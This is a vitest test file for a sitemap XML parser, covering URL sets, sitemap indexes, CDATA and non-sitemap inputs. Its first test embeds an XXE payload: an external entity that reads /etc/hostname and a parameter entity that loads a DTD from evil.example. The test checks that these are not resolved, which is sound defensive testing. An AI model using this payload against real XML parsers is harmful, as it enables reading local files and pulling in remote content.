import { expect, test } from 'vitest'
import { readSitemap } from './sitemap-text.ts'

const namespace = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'

test('its own entities and other files are not read', () => {
  const types = `<!DOCTYPE urlset [
    <!ENTITY word "loppis">
    <!ENTITY words "&word;&word;&word;&word;">
    <!ENTITY file SYSTEM "file:///etc/hostname">
    <!ENTITY % more SYSTEM "https://evil.example/more.dtd"> %more;
  ]>`
  const loc = '<url><loc>https://a.example/&file;&words;&amp;</loc></url>'
  const text = `<?xml version="1.0"?>${types}<urlset xmlns:xi="http://www.w3.org/2001/XInclude">${loc}</urlset>`
  expect(readSitemap(text)?.pages).toEqual(['https://a.example/&file;&words;&'])
})

test.each([
  [
    `<?xml version="1.0" encoding="UTF-8"?>\n<!-- made daily -->\n<urlset ${namespace}><url>\n<loc>\nhttps://a.example/1?a=1&amp;b=2 </loc><lastmod>2026-11-01</lastmod></url><url><loc>https://a.example/2</loc></url></urlset>`,
    { pages: ['https://a.example/1?a=1&b=2', 'https://a.example/2'], sitemaps: [] },
  ],
  [
    `<sitemapindex ${namespace}><sitemap><loc>https://a.example/en.xml</loc></sitemap></sitemapindex>`,
    { pages: [], sitemaps: ['https://a.example/en.xml'] },
  ],
  [
    '<urlset><url><loc><![CDATA[https://a.example/1?a=1&amp=2]]></loc></url></urlset>',
    { pages: ['https://a.example/1?a=1&amp=2'], sitemaps: [] },
  ],
  ['<urlset></urlset>', { pages: [], sitemaps: [] }],
  ['<!doctype html><html><body><urlset><url><loc>https://a.example/</loc></url></urlset>', null],
  ['{"@type":"Store"}', null],
  ['', null],
])('%s', (text, found) => {
  expect(readSitemap(text)).toEqual(found)
})
